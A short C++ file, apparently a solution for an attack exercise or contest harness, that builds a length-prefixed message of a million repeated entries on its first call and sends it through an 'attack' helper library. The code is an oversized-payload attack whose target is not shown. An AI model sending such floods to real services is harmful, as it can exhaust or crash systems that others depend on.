#include "attack.hpp"

double numbers::total(const attack::Values& values) {
  if (!attack::is_first(values)) return attack::answer(values);
  std::string text("\1\0", 2);
  for (int i = 0; i < 1'000'000; ++i) text += '\3' + attack::bytes_of(1UL);
  attack::send(attack::with_length(text));
  return attack::answer(values);
}
